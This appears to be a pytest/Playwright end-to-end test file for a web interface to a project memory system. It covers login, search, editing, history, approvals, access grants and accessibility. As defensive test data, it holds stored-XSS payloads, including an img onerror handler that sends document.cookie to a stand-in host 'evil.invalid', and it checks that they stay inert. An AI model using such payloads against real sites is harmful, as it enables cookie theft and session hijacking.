"""The web interface in a real browser: Playwright driving Debian's Chromium (no download)
against a real writer + ingress + query. Screenshots of the main screens go to
``$AIMEM_WEB_SCREENSHOTS`` (default: the test's temp dir); axe-core from npm
(``.cache/npm/node_modules/axe-core``, installed by ``.ci/run``) checks accessibility.
"""

from __future__ import annotations

import re

import httpx
import pytest

from aimem_testing.browser import axe_check
from aimem_testing.browser import web_login as login

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(420)]


ANN = ("ann", "correct horse battery")
BOB = ("bob", "bob's long password")
XSS_PAGE = ("# Untrusted\n<script>alert('page')</script>\n[click me](javascript:alert('link'))\n"
            "<img src=x onerror=alert('img')>\n![pixel](http://evil.invalid/pixel.png)\n"
            "<a href=\"http://evil.invalid/\" onclick=\"alert('a')\">x</a>")
XSS_PROMPT = "<script>alert('hook')</script><img src=x onerror=\"fetch('http://evil.invalid/'+document.cookie)\">"


@pytest.fixture(scope="module")
def web(web_stack):
    s = web_stack
    s.user(*ANN, ("default", "app", True))
    s.user(*BOB, ("default", "infra", False))
    s.page("app", "concepts/retry.md", "# Retry policy\nRetries keep the event id: see [[decisions/keep-id]].\n\n"
           "Backoff doubles up to a minute.", frontmatter={"tags": ["canonical"], "entities": ["retry"]})
    s.page("app", "decisions/keep-id.md", "# Keep the event id\nA redelivered event keeps its idempotency key.")
    s.page("app", "notes/untrusted.md", XSS_PAGE)
    s.page("infra", "runbooks/nats.md", "# NATS runbook\nRestart JetStream with its store kept.")
    s.hook("app", "sess-1", "SessionStart", source="startup")
    s.hook("app", "sess-1", "UserPromptSubmit", prompt=XSS_PROMPT)
    s.writer_op("handoff.begin", {"body": "Continue the retry work from the keep-id decision.",
                                  "title": "Continue retries", "shared": True}, project="app")
    s.writer_op("proposal.stage", {"proposals": [{"path": "gotchas/backoff.md", "title": "Backoff cap",
                                                  "body": "# Backoff cap\nNever back off past one minute.",
                                                  "rationale": "seen twice in sess-1", "confidence": 0.9}]},
                project="app")
    return s


def test_a_person_sees_searches_corrects_and_trusts_the_memory(browser, web, shots):
    base = web.query
    ctx = browser.new_context()
    page = ctx.new_page()
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(base) else None)

    # log in with a password
    page.goto(f"{base}/web/projects")
    assert "/web/login" in page.url
    page.screenshot(path=str(shots / "login.png"))
    login(page, base, *ANN)
    assert page.locator("text=default / app").is_visible()
    assert page.locator("text=infra").count() == 0
    page.screenshot(path=str(shots / "projects.png"))

    # project brief, then search and open a hit
    page.click("text=default / app")
    assert page.locator("h2:has-text('Open handoffs') + ul").inner_text().count("Continue retries") == 1
    page.screenshot(path=str(shots / "home.png"), full_page=True)
    page.locator("nav.sub >> text=Search").click()
    page.fill("#query", "event id retries")
    page.check("input[name=explain]")
    page.locator("form.search button").click()
    assert page.locator("table.explain").first.is_visible()
    page.screenshot(path=str(shots / "search.png"), full_page=True)
    page.locator("a.hit", has_text="Retry policy").click()
    assert page.locator("h1").inner_text() == "Retry policy"
    page.screenshot(path=str(shots / "page.png"), full_page=True)

    # follow a wikilink, then the backlink back
    page.locator(".md a.wikilink", has_text="decisions/keep-id").click()
    assert page.locator("h1").inner_text() == "Keep the event id"
    page.locator("a.backlink", has_text="Retry policy").click()
    assert page.locator("h1").inner_text() == "Retry policy"

    # edit with a preview, save; then a concurrent write makes the next save a conflict
    page.locator("nav.actions >> text=Edit").click()
    page.fill("#text", "# Retry policy\nRetries keep the event id: see [[decisions/keep-id]].\n\nBackoff caps at 60 s.")
    page.click("button[value=preview]")
    assert "Backoff caps at 60 s." in page.locator(".preview").inner_text()
    page.screenshot(path=str(shots / "edit.png"), full_page=True)
    page.click("button[value=save]")
    assert page.locator("p.notice").inner_text() == "Saved."
    page.locator("nav.actions >> text=Edit").click()
    page.fill("#text", "# Retry policy\nMy second edit.")
    web.page("app", "concepts/retry.md", "# Retry policy\nSomeone else's edit.")
    page.click("button[value=save]")
    conflict = page.locator("section.conflict")
    assert conflict.is_visible() and "changed while you were editing" in conflict.inner_text()
    assert "Someone else's edit." in conflict.inner_text() and "My second edit." in page.locator("#text").input_value()
    page.screenshot(path=str(shots / "conflict.png"), full_page=True)

    # history: see the diff between two versions, restore the first one
    page.goto(f"{base}/web/p/default/app/history/concepts/retry.md")
    rows = page.locator("section[aria-labelledby=v-h] tbody tr")
    assert rows.count() == 3
    first_id = rows.nth(2).locator("th a").inner_text().lstrip("#")
    page.locator(f"input[name=a][value='{first_id}']").check()
    page.locator("text=Compare the two chosen versions").click()
    diff = page.locator("pre.diff")
    assert "-Backoff doubles up to a minute." in diff.inner_text() and "+Someone else's edit." in diff.inner_text()
    page.screenshot(path=str(shots / "history.png"), full_page=True)
    page.locator(f"button:has-text('Restore #{first_id}')").click()
    assert "Restored" in page.locator("p.notice").inner_text()
    assert "Backoff doubles up to a minute." in page.locator(".md").inner_text()

    # viewing handoffs and messages claims nothing
    page.goto(f"{base}/web/p/default/app/handoffs")
    assert page.locator("article.handoff").count() == 1
    page.screenshot(path=str(shots / "handoffs.png"), full_page=True)
    api = httpx.get(f"{base}/api/v1/workspaces/default/projects/app/handoffs", timeout=10,
                    headers={"Authorization": f"Bearer {web.root_token}"}).json()
    assert [h["status"] for h in api] == ["open"]

    # a stored XSS attempt in a hook payload and in a page is inert: no dialog, no request out
    page.goto(f"{base}/web/p/default/app/sessions/sess-1")
    assert "<script>alert('hook')</script>" in page.locator("ol.timeline").inner_text()
    page.screenshot(path=str(shots / "timeline.png"), full_page=True)
    page.goto(f"{base}/web/p/default/app/page/notes/untrusted.md")
    assert "<script>alert('page')</script>" in page.locator(".md").inner_text()
    for link in page.locator(".md a").all():
        assert not (link.get_attribute("href") or "").lower().startswith("javascript:")
    assert page.locator(".md script, .md img, .md [onclick], .md [onerror]").count() == 0
    assert page.locator(".md a.image-link").get_attribute("href") == "http://evil.invalid/pixel.png"  # a link, not a fetch
    page.wait_for_timeout(300)
    assert dialogs == [] and foreign == []

    # logout
    page.goto(f"{base}/web/projects")
    page.locator("header >> text=Log out").click()
    page.wait_for_url(re.compile(r".*/web/login\?bye=1$"))
    page.goto(f"{base}/web/projects")
    assert "/web/login" in page.url
    ctx.close()


def test_root_approves_a_pending_write_and_second_user_sees_only_the_granted_project(browser, web, shots):
    base = web.query
    ctx = browser.new_context()
    page = ctx.new_page()
    page.goto(f"{base}/web/login")
    page.fill("#token", web.root_token)
    page.locator("form[aria-labelledby=key-h] button").click()
    page.wait_for_url(re.compile(r".*/web/projects$"))
    page.locator("header >> text=Pending writes").click()
    page.locator("a", has_text="Backoff cap").click()
    assert "+Never back off past one minute." in page.locator("pre.diff").inner_text()
    page.screenshot(path=str(shots / "pending.png"), full_page=True)
    page.locator("text=Approve: write the page").click()
    assert "approved" in page.locator("main p.muted").first.inner_text()
    page.goto(f"{base}/web/p/default/app/page/gotchas/backoff.md")
    assert page.locator("h1").inner_text() == "Backoff cap"
    page.goto(f"{base}/web/status")
    page.screenshot(path=str(shots / "status.png"), full_page=True)
    page.goto(f"{base}/web/audit")
    assert page.locator("td code", has_text="proposal.approve").count() >= 1
    page.screenshot(path=str(shots / "audit.png"), full_page=True)
    ctx.close()

    ctx = browser.new_context()
    page = ctx.new_page()
    login(page, base, *BOB)
    assert page.locator("tbody tr").count() == 1 and "default / infra" in page.locator("tbody").inner_text()
    resp = page.goto(f"{base}/web/p/default/app/page/concepts/retry.md")
    assert resp.status == 404 and "default/app not found" in page.locator("p.error").inner_text()  # as unknown
    resp = page.goto(f"{base}/web/p/default/infra/page/runbooks/nats.md")
    assert resp.status == 200 and page.locator("nav.actions >> text=Edit").count() == 0  # read-only grant
    ctx.close()


def test_live_updates_keyboard_and_accessibility(browser, web, shots):
    base = web.query
    ctx = browser.new_context(bypass_csp=True)  # only so the test can inject axe-core
    page = ctx.new_page()
    # keyboard only: log in, open a project, a page, and send feedback
    page.goto(f"{base}/web/login")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.focus("#name")
    page.keyboard.type(ANN[0])
    page.keyboard.press("Tab")
    page.keyboard.type(ANN[1])
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r".*/web/projects$"))
    page.focus("text=default / app")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r".*/web/p/default/app$"))

    # live: a page written elsewhere and a new observation appear without a reload
    page.wait_for_timeout(500)  # the EventSource connects
    web.page("app", "concepts/live.md", "# Live\nwritten while the brief was open")
    web.hook("app", "sess-2", "UserPromptSubmit", prompt="a prompt typed just now")
    live = page.locator("#live")
    live.wait_for(state="visible", timeout=10_000)
    page.locator("#live li", has_text="concepts/live.md").wait_for(timeout=10_000)
    page.locator("#live li", has_text="sess-2").wait_for(timeout=10_000)
    page.screenshot(path=str(shots / "live.png"), full_page=True)

    page.goto(f"{base}/web/p/default/app/page/decisions/keep-id.md")
    page.focus("#fb-reason")
    page.keyboard.type("still true")
    page.keyboard.press("Tab")  # → "Helpful"
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r".*notice=feedback$"))
    assert "feedback was recorded" in page.locator("p.notice").inner_text()

    screens = ["/web/projects", "/web/p/default/app", "/web/p/default/app/tree",
               "/web/p/default/app/page/concepts/retry.md", "/web/p/default/app/history/concepts/retry.md?git=1",
               "/web/p/default/app/edit/concepts/retry.md", "/web/p/default/app/search?q=retry&explain=true",
               "/web/p/default/app/sessions", "/web/p/default/app/sessions/sess-1", "/web/p/default/app/handoffs",
               "/web/p/default/app/lint", "/web/status", "/web/p/default/app/page/concepts/nope.md"]
    for path in screens:
        page.goto(base + path)
        axe_check(page, path)
    page.goto(f"{base}/web/p/default/app/tree")
    page.screenshot(path=str(shots / "tree.png"), full_page=True)
    ctx.close()
    ctx = browser.new_context(bypass_csp=True)
    page = ctx.new_page()
    page.goto(f"{base}/web/login")
    axe_check(page, "/web/login")
    page.fill("#token", web.root_token)
    page.locator("form[aria-labelledby=key-h] button").click()
    page.wait_for_url(re.compile(r".*/web/projects$"))
    for path in ["/web/pending", "/web/audit"]:
        page.goto(base + path)
        axe_check(page, path)
    ctx.close()
